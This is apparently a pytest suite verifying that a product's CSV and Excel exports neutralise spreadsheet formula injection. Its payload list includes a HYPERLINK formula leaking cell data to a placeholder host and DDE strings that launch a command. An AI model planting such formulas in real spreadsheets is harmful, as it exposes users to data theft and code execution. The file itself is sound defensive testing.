"""Exports are not open to formula injection: text a spreadsheet would run (=HYPERLINK(…), +cmd,
@SUM(…), -2+3) comes back from every CSV/Excel the product writes as inert text, never a formula.

Paths: the set-aside report (etl.load), etl.safe.csv_bytes / safe_frame (for page downloads), the
pages' Excel exports (ui.export.to_excel), the notice annex (official.notice.score_sheet_xlsx),
the metrics CLI (--format xlsx / csv).
"""
from __future__ import annotations

import argparse
import csv
import io

import openpyxl
import pandas as pd
import pytest

from etl.safe import csv_bytes, safe_cell, safe_frame
from tests.etl import helpers as h

PAYLOADS = ['=HYPERLINK("http://example.invalid/?q="&A1,"点击")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "=1+1", "\t=1+1"]


def _no_formula_cells(data: bytes) -> list[str]:
    """Every cell of every sheet that a spreadsheet would evaluate (openpyxl data_type 'f')."""
    wb = openpyxl.load_workbook(io.BytesIO(data))
    return [f"{ws.title}!{c.coordinate}" for ws in wb.worksheets for row in ws.iter_rows() for c in row
            if c.data_type == "f"]


def test_safe_cell():
    for p in PAYLOADS:
        assert safe_cell(p) == "'" + p
    assert [safe_cell(v) for v in (-3, 2.5, None, "甲市", "a=b", "")] == [-3, 2.5, None, "甲市", "a=b", ""]


def test_csv_download_helper_round_trips_as_text():
    df = pd.DataFrame({"单位名称": PAYLOADS, "罚款": range(len(PAYLOADS)), PAYLOADS[0]: ["x"] * len(PAYLOADS)})
    rows = list(csv.reader(io.StringIO(csv_bytes(df).decode("utf-8-sig"))))
    assert rows[0] == ["单位名称", "罚款", "'" + PAYLOADS[0]]
    assert [r[0] for r in rows[1:]] == ["'" + p for p in PAYLOADS]
    assert [r[1] for r in rows[1:]] == [str(i) for i in range(len(PAYLOADS))]  # numbers stay numbers
    assert safe_frame(df)["罚款"].tolist() == list(range(len(PAYLOADS)))


def test_set_aside_report_round_trips_as_text(db, load, files):
    """Rows set aside because of the payload (an unknown industry) and rows whose other cells hold it."""
    rows = [h.enterprise(i, industry=p) for i, p in enumerate(PAYLOADS, start=1)]
    result = load(h.write(files / "e.csv", "enterprises", rows))
    assert h.only_file(result).set_aside == len(PAYLOADS)
    with open(result.report, encoding="utf-8-sig", newline="") as fh:
        lines = list(csv.reader(fh))
    values = [line[3] for line in lines[1:]]
    assert sorted(values) == sorted("'" + p.strip() for p in PAYLOADS)  # cells are trimmed on the way in
    assert not [c for line in lines for c in line if c.startswith(("=", "+", "-", "@", "\t"))]


def test_page_excel_export_cells_are_text():
    from ui.export import to_excel

    df = pd.DataFrame({"单位": PAYLOADS, "指数": [80.5] * len(PAYLOADS)})
    data = to_excel({"排名": df}, notes=[("方案", "default")])
    assert _no_formula_cells(data) == []
    ws = openpyxl.load_workbook(io.BytesIO(data))["排名"]
    assert [ws.cell(row=r, column=1).value for r in range(2, 2 + len(PAYLOADS))] == ["'" + p for p in PAYLOADS]
    assert ws.cell(row=2, column=2).value == 80.5


def test_page_excel_export_headers_and_notes_are_text():
    from ui.export import to_excel

    data = to_excel({"排名": pd.DataFrame({PAYLOADS[0]: [1]})}, notes=[("方案", PAYLOADS[4])])
    assert _no_formula_cells(data) == []


def test_notice_annex_cells_are_text():
    from official import notice as N
    from metrics.scheme import load_scheme

    scheme = load_scheme()
    spec = scheme.require_score()
    n = len(PAYLOADS)
    score = pd.DataFrame({
        "code": [str(i) for i in range(n)], "name": PAYLOADS, "score": [70.0] * n, "rank": list(range(1, n + 1)),
        "bonus": [0.0] * n, "deduction": [0.0] * n, "warned": [True] * n, "assessed": [True] * n,
        "reason": PAYLOADS, "group": ["x"] * n, "peers": [n] * n, "items": [70.0] * n, "flags": [""] * n})
    for it in spec.items:
        score[f"{it.indicator}_value"], score[f"{it.indicator}_points"], score[f"{it.indicator}_na"] = 0.5, 10.0, False
    for a in [*spec.bonus, *spec.deductions]:
        score[f"{a.indicator}_value"], score[f"{a.indicator}_points"] = 1.0, 1.0
    data = N.score_sheet_xlsx(score, scheme, PAYLOADS[0])
    assert _no_formula_cells(data) == []
    ws = openpyxl.load_workbook(io.BytesIO(data)).active
    assert ws["A1"].value == "'" + PAYLOADS[0]
    texts = {c.value for row in ws.iter_rows(min_row=3) for c in row if isinstance(c.value, str)}
    assert {"'" + p for p in PAYLOADS} <= texts


def test_metrics_cli_excel_cells_are_text(tmp_path):
    from metrics.__main__ import emit

    out = tmp_path / "t.xlsx"
    emit(pd.DataFrame({"name": PAYLOADS, "index": [1.0] * len(PAYLOADS)}),
         argparse.Namespace(format="xlsx", out=str(out)))
    assert _no_formula_cells(out.read_bytes()) == []


def test_metrics_cli_csv_cells_are_text(tmp_path):
    from metrics.__main__ import emit

    out = tmp_path / "t.csv"
    emit(pd.DataFrame({"name": PAYLOADS}), argparse.Namespace(format="csv", out=str(out)))
    rows = list(csv.reader(open(out, encoding="utf-8-sig")))
    assert not [c for r in rows for c in r if c.startswith(("=", "+", "-", "@", "\t"))]
